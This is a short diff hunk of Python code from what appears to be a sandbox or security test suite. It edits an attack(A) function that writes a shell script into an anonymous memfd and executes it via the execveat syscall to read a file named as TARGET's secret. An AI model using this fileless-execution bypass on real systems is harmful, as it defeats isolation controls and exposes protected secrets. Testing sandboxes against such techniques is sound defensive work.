@@ -6,7 +6,7 @@ import os
 
 def attack(A):
     number = {"x86_64": 322, "aarch64": 281}[os.uname().machine]
-    descriptor = os.memfd_create("program")
+    descriptor = os.memfd_create("program", 0)
     os.write(descriptor, b"#!/bin/sh\ncat '%s'" % TARGET["secret"].encode())
     words = (ctypes.c_char_p * 2)(b"program", None)
     libc = ctypes.CDLL(None, use_errno=True)
